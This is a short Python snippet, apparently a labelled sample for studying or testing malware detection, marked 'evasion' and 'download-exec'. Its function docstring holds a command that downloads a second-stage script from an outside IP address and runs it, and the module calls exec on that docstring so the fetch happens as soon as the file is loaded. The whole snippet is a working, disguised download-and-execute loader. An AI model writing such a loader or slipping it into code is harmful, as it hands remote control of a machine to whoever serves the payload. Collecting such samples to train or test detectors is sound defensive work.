# evasion: the second stage lives in a docstring and is exec'd through __doc__
# grade: hard; does: download-exec
def stage():
    """import urllib.request as u; exec(u.urlopen('http://203.0.113.7/s2.py').read())"""


exec(stage.__doc__)
